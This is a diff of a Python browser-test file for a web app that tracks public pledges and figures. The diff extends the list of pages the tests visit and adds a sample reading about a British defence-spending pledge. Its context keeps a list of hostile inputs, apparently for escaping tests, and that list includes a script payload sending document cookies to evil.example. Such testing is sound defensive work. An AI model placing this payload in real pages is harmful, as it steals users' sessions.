@@ -23,14 +23,18 @@ from litestar import Litestar
 
 from onrecord.model import Reading
 from onrecord.record.adding import add
+from onrecord.record.addresses import claim_addresses
 from onrecord.record.database import open_record
 from onrecord.record.rating import known_figures
 from onrecord.web.app import create_app
 from onrecord.web.serving import Serving
 from tests.pages import Told, page, pledge, share
 
-PAGES = ["/", "/record", "/commitments", "/figures", "/review", "/about", "/no-such-page"]
-"""Addresses that every page test visits, on both records."""
+PAGES = [
+    *("/", "/record", "/commitments", "/figures", "/review", "/about"),
+    *("/claims/{claim}", "/threads/T1", "/figures/nato_defence_exp_pct_gdp", "/no-such-page"),
+]
+"""Addresses that every page test visits, on both records; `{claim}` stands for that of the first claim."""
 
 TRICKS = [
     "<script>fetch('//evil.example/'+document.cookie)</script>",
@@ -77,6 +81,12 @@ def ordinary() -> list[Reading]:
             ),
             headline="Bank of Westria sees prices up",
         ),
+        page(
+            "https://news.example/britain",
+            "2025-02-25",
+            pledge("Britain will spend 3% of GDP on defence by 2029.", 3, 2029, actor="Britain", country="GB"),
+            headline="Britain plans ahead",
+        ),
     ]
 
 
@@ -91,10 +101,10 @@ def hostile() -> list[Reading]:
 
 
 class Site:
-    """A server that runs, and where."""
+    """A server that runs, where its record is, and the address of the first claim in that."""
 
-    def __init__(self, address: str, place: Path) -> None:
-        self.address, self.place = address, place
+    def __init__(self, address: str, place: Path, claim: str) -> None:
+        self.address, self.place, self.claim = address, place, claim
 
 
 @contextlib.contextmanager
@@ -103,9 +113,14 @@ def running(place: Path, readings: list[Reading], serving: Serving | None = None
     with open_record(str(place), may_be_new=True) as record:
         for reading in readings:
             add(record, reading, reader="1.0", by=known_figures())
+    claim = next((address for one in readings for address in _addresses(one)), "none")
     app = create_app(str(place), serving or Serving(readers=1))
     with _listening() as listener, _served(app, listener):
-        yield Site(f"http://127.0.0.1:{listener.getsockname()[1]}", place)
+        yield Site(f"http://127.0.0.1:{listener.getsockname()[1]}", place, claim)
+
+
+def _addresses(reading: Reading) -> tuple[str, ...]:
+    return claim_addresses(reading.capture.id, reading.capture.text, reading.claims)
 
 
 def _listening() -> socket.socket:
@@ -170,7 +185,7 @@ class Tab:
 
     def visit(self, path: str) -> Any:
         """Go to a path of the site; return the page."""
-        self.page.goto(self.site.address + path)
+        self.page.goto(self.site.address + path.replace("{claim}", self.site.claim))
         return self.page
 
     def found(self) -> list[str]:
